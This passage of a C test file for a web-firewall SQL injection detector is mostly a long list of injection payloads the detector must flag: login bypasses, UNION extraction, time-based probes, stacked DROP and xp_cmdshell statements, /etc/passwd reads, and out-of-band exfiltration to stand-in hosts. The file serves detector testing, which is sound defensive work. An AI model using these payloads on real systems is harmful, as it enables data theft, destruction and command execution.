/* eventwall - the event firewall
 * Copyright (c) 2026 the eventwall authors
 * SPDX-License-Identifier: Apache-2.0 */

/* The analyser `sqli`: what it finds, and that no text takes it long. */

#include "analysed.h"
#include "signatures/analysers/sql_shape.h"

#define EW_SQL_WORD(name, class) name,
static const char *const words[] = {
#include "signatures/analysers/sql_words.def"
};
#define EW_SQL_CALL(name, sort) name,
static const char *const calls[] = {
#include "signatures/analysers/sql_calls.def"
};
#define EW_SQL_CATALOGUE(name) name,
static const char *const catalogues[] = {
#include "signatures/analysers/sql_catalogues.def"
};

static const char *const found[] = {
	/* boolean, single quotes */
	"' or 1=1", "' or 1=1--", "' or 1=1 -- -", "' OR 1=1#", "x' or 5=5/*", "' or '7'='7", "bob' or 'q'='q'--",
	"bob' or 'q'='q'#", "a') or ('k'='k", "a')) or (('k'))=(('k", "') or 2=2--", "')) or 3=3 -- x",
	"' or ''='", "' or ''-'", "' or '' like '", "' oR 9>3--", "' or 4<>5 --", "' or 2 between 1 and 3--",
	"' or 'm' between 'a' and 'z", "' or 6 in (6)--", "' or 8 is not null--", "' or 1 like 1#",
	"' or 'root' like 'ro%'", "' or not false--", "' or not(1=2)--", "' or true--", "' or true;",
	"' || true--", "' or 1", "' or '1", "' and 1=0--", "' and '3'='4", "1' and 5=5 and 'z'='z", "' && 1=1#",
	"' || 1=1#", "' || 'a'='a", "' xor 1#", "' xor 'x'='y", "' or username is not null--",
	"' or username is not null or username='", "' or email notnull--", "' or id=id--", "' or a=a--",
	"' or name like '%a%", "' or name like '%' --", "' or uid>0 --", "' and password ilike password--",
	"' rlike '.*", "' regexp '^a", "' like '%", "' is not null--", "' sounds like 'x", "'=0--", "'=''or'",
	"'='", "'-'", "'^'0", "'-''", "'-0-'", "'*1*'", "'+'b", "1'-'1", "'||'b", "x'||'y", "'+1+'", "'<9--",
	"'>''--", "' or 1 -- comment here is long", "' or 1=1 limit 1--", "' or 1=1 limit 1,1 -- -",
	"' or 1=1 order by 2 desc--", "' or exists(select 1 from users)--",
	"' or exists(select * from users) and ''='", "' and length(password)>5--",
	"' and ascii(substr(password,1,1))=97--", "' and (select count(*) from users)>0--",
	"' and substring(@@version,1,1)='5", "' AND MID(VERSION(),1,1)='8'#", "' or row(1,2)=row(1,2)--",
	"' div 1#", "' collate nocase--", "bob'collate`utf8_bin`--", "' having 1=1--",
	"' group by id having 2=2--", "' order by 5--", "' order by 3#", "' order by 1,2,3-- abcd",
	"' group by 1,2--", "' limit 1--", "' limit 0,1 procedure analyse(1,2)--", "' procedure analyse()#",
	"\\' or 1=1--", "\\' or 2=2#", "it''s' or 1=1--", "''' or 1=1--", "'''''union select 1,2--",
	"bob'or'4'='4", "bob'and'4'='5", "'or/**/1=1", "'/**/or/**/'a'/**/=/**/'a", "'/*x*/or/*y*/8=8#",
	"' or\n1=1--", "' or--x\n1=1--", "' or#x\n1=1#", "'\tor\t1=1\t--\t", "' or +1=1--", "' or -1=-1--",
	"' or ~1=~1--", "' or !0#", "' or 0x41=0x41--", "' or 1e1=10--", "' or .5=0.5--", "' or x'41'='A",
	"' or N'a'=N'a", "' or E'a'=E'a", "' or _utf8'a'=_utf8'a", "' or q'[a]'=q'[a]'--", "' or $$a$$=$$a$$--",
	"' or 1::int=1--", "' or '1'::text='1", "' or cast('1' as int)=1--", "' or convert(int,'1')=1--",
	"' or '{\"a\":1}'::jsonb @> '{\"a\":1}", "' or '{\"a\":1}' ->> 'a'='1",
	"' or json_extract('{\"id\":1}','$.id')=1--", "' or '[1]'::json->>0='1'--", "' or '{\"k\":1}' ? 'k",
	"' or data @> '{}", "' or array[1]=array[1]--", "' or char(65)='A", "' or chr(65)||chr(66)='AB",
	"' or 'a'||'b'='ab", "' or concat('a','b')='ab'#", "' or 1=any(select 1)--", "' or user() like 'root%",
	"' or current_user='sa'--", "' or @@hostname like 'a%", "' or (1)=(1)--", "' or ((1))=((1))--",
	"' or 1=(1)#", "' or null is null--", "' or 1<=>1#", "' or 'a'<>'b", "' or 'a'!='b'--",
	"' or case when 1=1 then 1 else 0 end=1--", "' or if(1=1,1,0)#", "' and 1=if(2>1,sleep(3),0)#",
	"' and iif(1=1,1,0)=1--",
	/* terminators */
	"admin'--", "admin'-- -", "admin' --", "admin' #", "admin'#", "admin'/*", "admin'--+", "admin');--",
	"admin')--", "admin'))-- -", "admin';-- x", "admin\"--", "admin\"#", "admin\") --", "'; --", "'--",
	"x','y','z')--", "x',1,2)#", "x', (select version()))--", "x',role='admin'--",
	"x', role='admin' where id=1--", "x', balance='999",
	/* double quotes, backticks */
	"\" or 1=1--", "\" or \"\"=\"", "\" or \"a\"=\"a", "\") or (\"b\"=\"b", "\")) or ((\"b\"))=((\"b",
	"x\" and 1=2#", "\" or true--", "\" or sleep(3)=\"", "\" union select 1,2,3--", "\"; drop table users--",
	"\"||\"a\"=\"a", "` or 1=1--", "`) or 1=1#", "id` and sleep(2)#", "id` union select 1--",
	"x];drop table users--", "x] or 1=1--", "x]; exec xp_cmdshell 'dir'--", "\" or 1 --", "\"=\"", "\"-\"",
	/* in the open */
	"1 or 1=1", "1 OR 1=1--", "1 or 2=2#", "-1 or 1=1", "1) or (1=1", "1) or 3=3--", "1)) or ((1=1",
	"1 and 1=2", "7 and 3=3", "5 and 6>7", "9 || 1=1", "9 && 1=0", "1 xor 1=1", "or 1=1", " or 1=1",
	"or 1=1--", "and 1=1", "AND 2=3", "|| 1=1", "&& 3=3", "admin or 1=1", "1 or 'a'='a'", "1 or \"a\"=\"a\"",
	"1 or true--", "1 or 1--", "1 or 1#", "1 or not false", "1 or 1 in (1)", "1 or 1 like 1",
	"1 or 1 is not null", "1 or 5 between 1 and 9", "1 or exists(select 1)", "1 or id=id", "1 or (1)=(1)",
	"1 or(1)=(1)", "1or 1=1", "1or1=1", "1||1=1", "1e0or 1=1", "1/**/or/**/1=1", "1/*a*/and/*b*/1=1",
	"1\x0bor\x0b" "1=1", "1\xa0or\xa0" "1=1", "1+or+1=1", "1+and+1=2--", "or x=x", "or x=x--", "1 or x=y--",
	"having 1=1", "1 having 2=2--", "or 2 like 2", "where 1=1 and 4=5#", "order by 4--", "1 order by 7",
	"1 order by 12--", "1) order by 2#", "1 order by 1,2,3--", "1 group by 3--", "order by 3", "and true",
	"or 1", "1 and sleep(4)", "1 or sleep(5)#", "1-sleep(3)", "1*sleep(2)", "1^sleep(2)", "1,sleep(2)",
	"1;sleep(2)--", "sleep(5)", "sleep(5)--", "sleep(4)='", "sleep(7)#", "pg_sleep(5)--",
	"1 or pg_sleep(3)--", "1);select pg_sleep(4)--", "benchmark(9000000,md5(1))",
	"1 and benchmark(5000000,sha1(7))", "1 and if(1=1,sleep(2),0)", "if(now()=sysdate(),sleep(3),0)",
	"if(1=1,sleep(1),1)", "(select 1)", "(select*from(select(sleep(6)))q)",
	"1 and (select * from (select(sleep(2)))x)", ",(select * from (select(sleep(4)))c)", "(select sleep(3))",
	"(case when 1=1 then 1 else 2 end)", "case when (3=3) then 1 else 0 end",
	"name,(select password from users limit 1)", "name,(case when (1=1) then name else price end)",
	"id desc,(select 1 from dual)", "1,extractvalue(1,concat(0x7e,version()))",
	"1 and extractvalue(3,concat(0x5c,(select user())))", "1 and updatexml(1,concat(0x7e,database()),1)",
	"1 and exp(~(select * from (select user())a))",
	"1 and (select 1 from (select count(*),concat(version(),floor(rand(0)*2))x from information_schema.t"
	"ables group by x)a)",
	"1 and gtid_subset(version(),1)", "1 and json_keys((select convert((select user()) using utf8)))",
	"1 and polygon((select * from (select * from (select version())a)b))",
	"1 and ascii(substring((select password from users limit 1),1,1))>64",
	"1 and ascii(lower(substring((select top 1 name from sysobjects where xtype='u'),1,1)))>110",
	"5 and length(database())=4", "5 and substring(version(),1,1)=5", "1 and ord(mid(user(),1,1))=114",
	"1 and (select substr(table_name,1,1) from information_schema.tables limit 1)='a'",
	"1 and @@version like '8%'", "1 rlike (select (case when (1=1) then 1 else 0x28 end))",
	"rlike (select (case when (8=8) then 0x61 else 0x28 end))", "1 waitfor delay '0:0:4'",
	"1) waitfor delay '0:0:4'--", "1;waitfor delay '0:0:9'--", "waitfor delay '0:0:3'--",
	"randomblob(900000000)", "1 and 3=like('abc',upper(hex(randomblob(300000000))))",
	"1 and dbms_pipe.receive_message('x',4)=1", "1+dbms_lock.sleep(3)",
	"1 procedure analyse(extractvalue(1,concat(0x3a,version())),1)",
	/* union */
	"' union select null--", "' union select 1,2,3--", "' union all select null,null#", "' UnIoN SeLeCt 1",
	"' union distinct select 4,5--", "' union select password from users--",
	"' union select name,pass from accounts where 'a'='a", "' union select @@version--",
	"' union select user()--", "' union select load_file('/etc/passwd')--",
	"' union select 'a' into outfile '/tmp/x.php'--", "' union values(1,2)--", "' union table users--",
	"' union(select 1)--", "'union(select(1),(2))#", "'/**/union/**/select/**/1--",
	"'/*!50000union*//*!50000select*/1--", "'/*!union*/ /*!select*/ 1,2#", "' union/*\n*/select\n1--",
	"' union--x\nselect 1,2--", "' union all/**/select top 1 name from sysobjects--", "1 union select 1",
	"1 union all select 1,2--", "-1 union select 1,group_concat(table_name) from information_schema.tables",
	"0 union select name from users", "999 union select null,null,null from dual", "1 union(select 1,2)",
	"1e0union select 1", "1e0union(select 2)", "1.union select 1", ".0union select 1", "\\Nunion select 1",
	"1)union select 1--", "1 union select{x 1}", "union select 1,2", "union all select null",
	"union select username,password from users", "x union select 1,2", "x union all select password,1 from t",
	"1 union select * from users", "1 union select`name`from`users`", "1 union select a from (select 1)x",
	"1 except select 1", "1 intersect select 2,3", "1 minus select 1 from dual", "1+union+select+1,2,3",
	"1+union+all+select+a,b+from+users--", "*/ union select 1--", "x*/union select 1,2/*",
	"1' union select 1'", "%' union select 1,2--", "') union select 1--", "')) union all select 1,2,3--",
	/* stacked */
	"'; drop table users--", "'; drop table users;--", "1; drop table users", "1;drop database prod",
	"x'); DROP TABLE Students;--", "'; truncate table logs--", "'; alter table users add x int--",
	"'; create user eve identified by 'x'--", "'; create table t(a text);--",
	"'; create or replace function f() returns int as 'x' language c--",
	"'; insert into users values(1,'x')--", "'; insert into users(name) values ('x')--",
	"'; update users set role='admin'--", "1; update users set pass='x' where id=1", "'; delete from users--",
	"'; delete from users where '1'='1", "'; select pg_sleep(5)--", "'; select * from users--", "1;select 1",
	"'; exec xp_cmdshell 'dir'--", "'; exec master..xp_cmdshell 'ping x'--",
	"'; exec sp_configure 'show advanced options',1--", "'; exec('sel'+'ect 1')--",
	"'; execute immediate 'select 1 from dual'--", "'; declare @q varchar(99);set @q='x';exec(@q)--",
	"'; declare @a int--", "'; waitfor delay '0:0:5'--", "\"; waitfor delay '0:0:5'--",
	"'; waitfor time '10:00'--", "'; shutdown--", "'; shutdown with nowait--", "; shutdown",
	"'; grant all on *.* to 'x'--", "'; copy t from program 'id'--", "'; copy (select 1) to program 'nc x'--",
	"'; call dbms_x.run('a')--", "'; begin dbms_lock.sleep(4); end;--", "'; begin declare x int; end--",
	"'; commit--", "'; vacuum--", "'; attach database '/tmp/x.php' as x--", "'; pragma writable_schema=1--",
	"'; load data infile '/etc/passwd' into table t--", "'; backup database x to disk='c:\\y'--",
	"'; handler users open--", "'; prepare s from 'select 1'--", "'; do $$ begin perform 1; end $$--",
	"'; show tables--", "'; desc users; --", "'; kill 5--", "'; use master--", "'; set @a=1--",
	"'; if (1=1) waitfor delay '0:0:2'--", "'; replace into users values(1)--",
	"'; merge into users using dual on (1=1)--", "1;call f(1)", ";drop table x",
	";exec xp_dirtree '\\\\x\\y'", "name;drop table users", "'; lock tables users write--",
	"' ; insert into mysql.user values(1)",
	/* joined by strings */
	"'||(select password from users limit 1)||'", "'+(select @@version)+'", "'-(select 1)-'",
	"'||pg_sleep(4)--", "'||pg_sleep(4)||'", "'||utl_http.request('http://x/'||(select user from dual))||'",
	"'||utl_inaddr.get_host_address('x')||'", "'||dbms_pipe.receive_message('a',3)||'",
	"'||ctxsys.drithsx.sn(1,'a')||'", "'||extractvalue(xmltype('<x/>'),'/l')||'", "'||load_extension('x')--",
	"'||load_file('/etc/passwd')||'", "'||chr(65)||'", "'||version()||'", "'+convert(int,@@version)+'",
	"'+char(65)+'", "'+user+'", "'+cast((select 1) as varchar)+'", "'-sleep(3)-'", "'+sleep(3)+'",
	"'^sleep(3)^'", "'*sleep(3)*'", "'-if(1=1,sleep(2),0)-'", "'+benchmark(9999999,md5(1))+'",
	"'and(select(1))='1", "'and(select(1)from(users))='1", "'or(1)=(1)#", "'or(true)#", "'=(select 1)='",
	"'|1#", "'&&1#", "'||1#", "'&&'1", "'%1#", "'/1#", "' in (select 1)--", "' in ('a','b')--",
	"' not in (select 1)--", "' into outfile '/tmp/a'--", "' into dumpfile '/tmp/a'#", "' for update--",
	"' from dual--", "' as x--", "' where 1=1--", "' from information_schema.tables--",
	"' waitfor delay '0:0:3'--", "' exec xp_cmdshell 'dir'--", "' escape '\\' or 1=1--", "' offset 1--",
	"' returning id--", "' desc--", "' asc--",
	/* whole statements */
	"select * from information_schema.tables", "select name from sqlite_master",
	"select table_name from all_tables", "select sleep(5)", "select pg_sleep(5)", "select @@version",
	"select banner from v$version", "select user from mysql.user", "select load_file('/etc/passwd')",
	"select 1 into outfile '/tmp/x'", "select 1; drop table users", "select * from users; drop table users--",
	"select 1; exec xp_cmdshell 'dir'", "select * from users where id=1 or 1=1", "select 1 union select 1,2",
	"exec xp_cmdshell 'whoami'", "exec master.dbo.xp_cmdshell 'dir'", "exec sp_addlogin 'a','b'",
	"declare @x varchar(99) exec(@x)", "waitfor delay '0:0:5'", "copy t from program 'id'",
	"insert into mysql.user (user) values ('x')", "select benchmark(1000000,md5(1))",
	"select utl_inaddr.get_host_name('x') from dual", "select * from openrowset('a','b','c')",
	"select * from pg_shadow", "select lo_import('/etc/passwd')", "select pg_read_file('/etc/passwd',0,10)",
	"1.e(ascii(1))", "IF(7=8) SELECT 7 ELSE DROP FUNCTION f--", "or '{\"b\":2}'::jsonb <@ '{\"b\":2}'::jsonb",
	"or json_extract('{\"id\": 1}', '$.id') = 1", "x'and unlikely (id)--",
	"x\\' and( likelihood (id,.0));'\n",
	/* what lists of login bypasses have */
	"' or 1=1 or 'x'='y", "' or '1'='1' --", "' or '1'='1' #", "' or '1'='1'/*", "' or '1'='1'({",
	"' or '5' = '5';--", "\" or \"1\"=\"1\"--", "\" or \"1\"=\"1\"/*", "' OR 'unusual' = 'unusual'",
	"' OR 'some' = 'so'+'me'", "' OR 'text' > 't'", "' OR 'text' = N'text'", "' OR 3 BETWEEN 1 AND 5",
	"' OR 'x' IN ('x')", "admin' or 2 like 2--", "admin' or '3' like '3", "admin') or 2 like 2#",
	"admin') or ('2' like '2", "admin' or 1=1 or ''='",
	"admin' and 1=0 union all select 'admin', '81dc9bdb52d04dc20036dbd8313ed055'--",
	"' union select 'x','y' from dual--", "' or sleep(5)='", "' or 1 --", "' or 1#", "' OR 1 -- -",
	"') or true--", "or true--", "'or''='", "'or'x'='x", "'or 1=1;#", "'='' or '", "' or ''&'", "' or ''^'",
	"' or ''*'", "' or 1=1 into outfile '/tmp/z", "x' AND email IS NULL; --", "x' AND userid IS NULL; --",
	"x' and members.email is null; --", "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
	"x' or full_name like '%bob%", "23 OR 1=1", "anything' OR 'x'='x", "password' or 1=1--",
	"1' or 1=1 limit 1 offset 0 -- -", "'; or 1=1--", "' or(1)=1--", "' or(1=1)#", "' || 1=1 --", "'||'1'='1",
	"'||1='1", "'||2=2#", "'or 1--", "'or 1 or'", "'and 0#", "' and false--", "' and 1 -- x", "' and null--",
	"' AnD 'a'='A' CoLlAtE nocase--", "' or 2-1=1--", "' or 1*1=1--", "' or 2%2=0#", "' or 1&1#", "' or 1|0#",
	"' or -(-1)--", "' or +(+1)--", "' or (select 1)=1--", "' or (select 1)--",
	"' or (select count(*) from users)>0#", "' or 0<(select 1)--", "' or 'a'=(select 'a')--",
	"' or exists(select null)--", "' or not exists(select 1 from users where 1=2)--",
	"' or 1=1 union select null--", "' or 1 group by password having 1=1--",
	"' or true group by id having min(0)#", "' or 1 rlike 1#", "' or 1 regexp 1#", "' or 'a' rlike 'a",
	"' or 'a' glob '*", "' or 'a' ilike 'A", "' or 'abc' similar to '%b%'--", "' or 1 in (select 1)--",
	"' or (1,2)=(1,2)--", "' or binary 'a'='a", "' or cast(1 as int)=1--", "' or length('a')=1--",
	"' or char_length('ab')=2#", "' or ascii('a')=97--", "' or 0x61='a'--", "' or unhex('61')='a'#",
	"' or hex('a')=61#", "' or md5('a')=md5('a')--", "' or conv('a',16,10)=10#", "' or strcmp('a','a')=0#",
	"' or greatest(1,2)=2--", "' or coalesce(null,1)=1--", "' or nvl(null,1)=1--", "' or ifnull(null,1)#",
	"' or nullif(1,2)#", "' or elt(1,1)#", "' or make_set(1,1)#", "' or rownum=1--",
	"' or rowid is not null--", "' or user is not null--", "' or user_id=user_id--",
	"' or password=password#", "' or users.id=1#", "' or `id`=1#", "' or [id]=1--", "' or \"id\"=\"id",
	"' or 1=1;", "' or 1=1; --", "' or 1=1 ;#",
	/* probing */
	"1' and 1=1-- -", "1' and 1=2-- -", "1\" and 1=1-- -", "1') and ('1'='1", "1' and '1'='1", "1 and 1=1#",
	"1 and 7300=7300 and 'pkl'='pkl", "1) and 8310=8310 and (4321=4321", "1' and 8310=8310 and 'a'='a",
	"%' and 8310=8310 and '%'='", "%' or '1'='1", "%') and 5=5 and ('%'='", "') and 6=6 and ('a'='a",
	"')) and 6=6 and (('a'='a", "' and 6=7 and 'a' like 'a", "1 and (select 2)=2",
	"1 and (select 8310 from pg_sleep(5))--", "1 and 8310=(select 8310 from pg_sleep(5))",
	"1 and 1=(select count(*) from generate_series(1,5000000))",
	"1 and (select 1 from(select count(*),concat(0x71,(select (elt(1=1,1))),0x71,floor(rand(0)*2))x from"
	" information_schema.plugins group by x)a)",
	"1 and 4321=cast((chr(113)||chr(112))||(select (case when (1=1) then 1 else 0 end))::text as numeric)",
	"1 and 4321=convert(int,(select char(113)+char(112)))", "1 and 4321 in (select (char(113)+char(112)))",
	"1 and 4321=utl_inaddr.get_host_address(chr(113)||chr(112))",
	"1 and 4321=ctxsys.drithsx.sn(4321,(chr(113)))",
	"1 and 4321=dbms_utility.sqlid_to_sqlhash((chr(113)||chr(112)))",
	"1 and 4321=(select upper(xmltype(chr(60)||chr(58))) from dual)",
	"1 or row(1,2)>(select count(*),concat(version(),floor(rand(0)*2))x from (select 1 union select 2)a "
	"group by x limit 1)",
	"1 and extractvalue(4321,concat(0x5c,0x71))",
	"1 and json_keys((select convert((select concat(0x71)) using utf8)))",
	"1 and exp(~(select*from(select concat(0x71))x))",
	"(select 4321 from(select count(*),concat(0x71,floor(rand(0)*2))x from information_schema.plugins gr"
	"oup by x)a)",
	"(select (case when (1=1) then 1 else 1*(select 1 from information_schema.plugins) end))",
	"(case when 1=1 then 1 else null end)", "(select concat(0x71,0x72))",
	"if(1=1,1,(select 1 union select 2))", "make_set(1=1,1)", "elt(1=1,1)", "1;select sleep(5)",
	"1;select benchmark(5000000,md5(0x61))#", "1;waitfor delay '0:0:5'", "1);waitfor delay '0:0:5'--",
	"1';waitfor delay '0:0:5'--", "1 waitfor delay '0:0:5'--", "1;select pg_sleep(5)--",
	"1 and 4321=(select count(*) from all_users t1,all_users t2)", "1;begin dbms_lock.sleep(5); end",
	"1;begin user_lock.sleep(5); end", "1 and 4321=like(char(65),upper(hex(randomblob(500000000/2))))",
	"1 or 4321=like(char(65),upper(hex(randomblob(500000000/2))))", "1 order by 1-- abcd", "1 order by 1#",
	"1) order by 1-- x", "1' order by 9999-- q", "1 union all select null,null-- abcd",
	"1 union all select null,concat(0x71,0x72),null#", "1' union all select null,null,null-- a",
	"-1 union all select 1,2,(select group_concat(schema_name) from information_schema.schemata)--",
	"1 limit 0,1 union all select null#", "1 procedure analyse(extractvalue(1,concat(0x5c,version())),1)",
	"1 into outfile '/tmp/x' lines terminated by 0x3c3f",
	"1 limit 0,1 into outfile '/tmp/x' lines terminated by 0x3c--",
	/* comments and blanks */
	"1/**/AND/**/1=1", "1/**/aNd/**/ascii(substr((select/**/user()),1,1))>0", "1\nor\n1=1",
	"1\x0cor\x0c" "1=1", "1\x0dor\x0d" "1=1", "1\tor\t1=1", "'\x0b||\x0b" "1=1#", "1\xc2\xa0or\xc2\xa0" "1=1",
	"1 or--\n1=1", "1 or#\n1=1", "1 /*!or*/ 1=1", "1 /*!50000or*/ 1=1", "1 /*!00000and*/ 1=2",
	"1 /*!12345union*/ /*!12345select*/ 1", "1 union/*!select*/1", "1 union/**//*!50000select*//**/1,2",
	"1 union-- x\nselect 1", "1 union#aa\nall select 2", "1 union all-- -\nselect 1",
	"1/*x*/union/*y*/select/*z*/1", "1/*!union*//*!all*//*!select*/1", "1 union(select(1),(2),(3))",
	"1 union((select 1))", "1 union all(select 1)", "1 union distinctrow select 1", "1 union select+1",
	"1 union select-1", "1 union select~1", "1 union select!1", "1 union select.1", "1 union select@a",
	"1 union select'a'", "1 union select\"a\"", "1 union select(1)", "1 union select 1e1,2",
	"1 union select all 1", "1 union select distinct 1", "1 union select sql_no_cache 1,2",
	"1 union select null", "1 union select true", "1 union select version()", "1 union select current_user",
	"1 union select a.b,c.d from x.y", "1 union select x from y where 1=1--", "1 union select `x` from `y`",
	"1 union select [x] from [y]", "1 union select \"x\" from \"y\"", "1 union values row(1,2)",
	"1 union table users", "1 union(table users)", "1.0union select 1", "1.0e0union select 1",
	"0x1 union select 1", "'a' union select 1", "null union select 1", "true union select 1",
	"(1)union(select 1)", "1)union(select 1", "'union select 1", "'union all select 1",
	"'union(select 1,2)--",
	/* statements */
	"'; DROP TABLE users CASCADE--", "'; DROP TABLE IF EXISTS users--", "'; drop view v--",
	"'; drop index i on t--", "'; drop user x--", "'; alter user sa identified by 'x'--",
	"'; alter login sa with password='x'--", "'; alter table t drop column c--",
	"'; create login x with password='y'--", "'; create trigger t after insert on x begin select 1; end--",
	"'; insert into log select * from users--", "'; insert users values(1)--",
	"'; update `users` set `a`=1--", "'; update users set a=1, b=2 where id=3#",
	"'; delete from `users` where id>0--", "'; delete users--", "'; exec sp_makewebtask 'a','b'--",
	"'; exec sp_oacreate 'wscript.shell',@x out--", "'; exec master.dbo.xp_regread 'x','y'--",
	"'; EXEC xp_cmdshell('dir')--", "'; exec ('drop table x')--", "'; EXECUTE('x')--", "';exec(0x41)--",
	"'; declare @x nvarchar(4000) set @x=0x41 exec sp_executesql @x--",
	"'; set @x=1; prepare s from @x; execute s--", "'; set password for root=password('x')--",
	"'; reconfigure--", "'; grant dba to x--", "'; revoke all on t from public--", "'; copy t to '/tmp/x'--",
	"'; copy t(a) from '/etc/passwd'--", "'; create table x(a text); copy x from '/etc/passwd'--",
	"'; select lo_import('/etc/passwd')--", "'; select load_extension('x')--",
	"'; select 1 into outfile '/tmp/x'--", "'; select * into x from users--", "'; select @@version--",
	"'; select version()--", "'; select user--", "'; select 1#", "'; rename table a to b--",
	"'; load data local infile '/etc/passwd' into table x--", "'; flush privileges--", "'; end--",
	"'; rollback--", "'; lock table x in exclusive mode--", "'; bulk insert x from 'c:\\boot.ini'--",
	"'; restore database x from disk='y'--", "'; dbcc checkdb--", "'; openrowset('x','y','z')--",
	"'; print 'x'--", "'; raiserror('x',16,1)--", "'; with x as (select 1) select * from x--",
	"'; explain select 1--", "'; analyze--", "'; attach database ':memory:' as x; create table x.y(z)--",
	"1; attach database '/tmp/a' as b", "1; exec master..xp_cmdshell 'dir'", "1; exec xp_cmdshell 'dir'",
	"1; drop table users--", "1; insert into users values(1)", "1; delete from users",
	"1; truncate table users", "1; create user x", "1;shutdown", "1;declare @x int", "1;set @x=1",
	"1;copy t from program 'id'", "1);drop table users--", "1));drop table users--", "x;drop table users--",
	"x;exec xp_cmdshell 'dir'", "x;select pg_sleep(5)", "x;waitfor delay '0:0:5'", "\") ; drop table users--",
	"\"; exec xp_cmdshell 'dir'--", "`; drop table users--", "; drop table users", ";drop table users--",
	"; select pg_sleep(5)", "; insert into x values(1)", "'); delete from users; --",
	"'));drop table users--",
	/* joined */
	"'||(select 1)||'", "'||(select banner from v$version where rownum=1)||'",
	"'||(select case when (1=1) then to_char(1/0) else '' end from dual)||'",
	"'||(select '' from users where rownum=1)||'", "'||user||'", "'||current_user--", "'||'a'||'b'--",
	"'|| version() ||'", "'||(select pg_sleep(10))--", "'+(select top 1 name from sys.databases)+'",
	"'+(select 1)--", "'+db_name()+'", "'+@@version+'", "'+''+'", "'+'a'+'", "'+'x", "'||'x'='x", "'-1-'",
	"'*1--", "'^1#", "'^(select 1)^'", "'^(ascii(mid(version(),1,1))>1)#",
	"'-(ascii(substr(version(),1,1))>1)-'", "'-(select(0)from(select(sleep(5)))v)-'",
	"'+(select(0)from(select(sleep(5)))v)+'", "\"+(select(0)from(select(sleep(5)))v)+\"",
	"0'xor(if(now()=sysdate(),sleep(5),0))xor'z", "0\"xor(if(now()=sysdate(),sleep(5),0))xor\"z",
	"(select(0)from(select(sleep(5)))v)/*'+(select(0)from(select(sleep(5)))v)+'\"+(select(0)from(select("
	"sleep(5)))v)+\"*/",
	"sleep(1)/*' or sleep(1) or '\" or sleep(1) or \"*/", "-5) or 8=(select 8 from pg_sleep(5))--",
	"-5 or 8=(select 8 from pg_sleep(5))--", "abc') or 8=(select 8 from pg_sleep(5))--",
	"1 or (select sleep(5))", "1 or sleep(5)=0", "1-(sleep(5))", "1*if(1=1,sleep(5),0)", "if(1,sleep(5),0)",
	"if(1=1,sleep(5),'a')", "'and(sleep(5))and'", "'and sleep(5) and'1", "'or(sleep(5))or'",
	"'&&sleep(5)&&'1", "'&&(select sleep(5))#", "'=sleep(5)='", "\"=sleep(5)=\"", "'=(sleep(5))='",
	"'<sleep(5)<'", "'in(sleep(5))--", ",sleep(5)", ",sleep(5)--", ") or sleep(5)--", ")) or sleep(5)#",
	"1) or sleep(5)#", "1)) or pg_sleep(5)--", "1 or benchmark(5000000,md5(1))#",
	"' or benchmark(5000000,md5(1))#", "' or benchmark(5000000,md5(1))='", "'; pg_sleep(5)--",
	"order by sleep(5)", "order by 1,sleep(5)", "order by if(1=1,1,sleep(5))", "1 group by x having 1=1",
	"having 1=1--", " having 1=0--", "and 1=1--", "and 1", "and 0", "and false", "as x where 1=1 and 1=1--",
	"where 1=1 and 1=0--", " rlike (select (case when (1=1) then 1 else 0x28 end)) and 'a'='",
	"%' and 5=5 and '%'='", "+sleep(5)+'", "+benchmark(3200,sha1(1))+'", "+ sleep(10) + '",
	"randomblob(500000000/2)", "and 9=like('abcdefg',upper(hex(randomblob(500000000/2))))",
	"and (select * from (select(sleep(5)))a) and 'x'='x", "and (select substring(@@version,1,1))='x'",
	"union all select user()--", "union all select 'a'||'b',2,3--", "union all select null#",
	"union all select concat(concat('a','b'),'c')-- xyzw",
	"union all select @@version,sleep(5),user(),benchmark(1000000,md5('a')),4,5",
	"and 5650=convert(int,(union all select char(88)+char(88)))",
	/* second column, IN, LIKE, comment */
	"a','b','c');--", "a','b',(select 1))#", "a',(select 1),'b", "a', now()); drop table x--", "a',1)--",
	"a') union select 1--", "a','b') union select 1,2--", "1,2) or 1=1--", "1,2) or (1=1", "1) or (1)=(1",
	"1,(select 1))--", "%' or 1=1--", "%') or 1=1--", "%' union select 1--", "a%' or '%'='", "*/ or 1=1--",
	"*/or 1=1/*", "*/;drop table users--", "x*/ union all select 1,2 /*", "name` union select 1#",
	"name`,(select 1)#", "name` desc,(select sleep(5))#", "`,(select 1)#", "name] from users; drop table x--",
	"id,(select sleep(5))", "id,if(1=1,sleep(5),0)", "id limit 1,1 procedure analyse(1,1)", "id;select 1",
	"id desc;drop table users", "1 desc,(select 1)", "(select sleep(5) from dual)",
	"1 asc, extractvalue(1,concat(1,user()))", "count(*),(select 1)", "*,(select password from users)",
	/* numbers for characters, and names alone */
	"char(39)+char(39)", "chr(65)||chr(66)", "char(97,100,109)", "concat(0x7e,user())",
	"7' union all select column_name", "x union distinct select a", "utl_http.request('http://x')",
	"(select password from users where id=1)",
	"2 or true",
	"-3 or price>0",
	"4 is not null or 4",
	"1=0 or 2=2",
	"7=7--",
	"0=0#",
	"k'='k",
	"3 as n union select secret from vault",
	"3 for update union select 8",
	"3 for update of carts; delete from carts",
	"* from vault; --",
	"count(*) from carts union select secret",
	"passwd from members--",
	"max(id),version() from members union select 4,user()--",
	"coalesce((select secret from vault limit 1),'-')",
	"sqrt(ascii(mid((select secret from vault limit 1),1,1))>70)",
	"' union select first 2 name from vault--",
	"' union select raw secret from vault--",
	"' union select value x.secret from x--",
	"2 union with q as (select 3) select * from q",
	"'; unload ('select 4') to 's3://b/c'--",
	"'; copy into @stage from vault--",
	"'; export data options(uri='gs://b/c') as select 5--",
	"x' on duplicate key update role='root'--",
	"x') on conflict (mail) do update set role='root'--",
	"8, admin=true where uid=9--",
	"ref],[secret] from [vault]--",
	"] or 8=8 --",
	"$$ or 8=8 --",
	"$tag$; drop table vault; --",
	"sort=if(ascii(substr(user(),2,1))=97,a,b)",
	"iif(3=3,1,0)",
	"3-convert(int,db_name())",
	"3*version()",
	"3+ascii(user())",
	"asc, (select secret from vault)",
	"drop database sales;",
	"delete from vault where 4=4",
	"update vault set x=0 where 4=4; --",
	"q'; checkpoint--",
	"users where 6=6--",
	"name) values ('q') --",
	"3 if (select user)='sa' waitfor delay '0:0:7'",
	NULL,
};

/* Lookups fail where a table is not sorted. */
static void tables_are_sorted(void)
{
	size_t bad = 0;

	for (size_t i = 0; i < sizeof(words) / sizeof(*words); i++)
		bad += ew_sql_class_of(ew_bytes_str(words[i])) == EW_SQL_NO_CLASS;
	is_int(bad, 0, "each word has its class");
	bad = 0;
